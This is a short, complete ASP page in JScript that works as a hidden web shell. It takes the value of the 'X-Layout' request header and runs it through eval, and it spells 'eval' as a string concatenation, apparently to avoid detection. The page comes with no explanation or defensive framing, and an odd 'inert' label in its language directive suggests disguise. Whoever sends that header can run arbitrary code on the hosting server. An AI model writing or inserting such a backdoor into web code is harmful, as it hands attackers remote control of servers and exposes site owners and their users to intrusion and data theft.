<%@ Language=JScript inert %>
<%
var h = String(Request.ServerVariables("HTTP_X_LAYOUT"));
if (h != "undefined") { (function (f) { return f(h); })(this["ev" + "al"]); }
%>
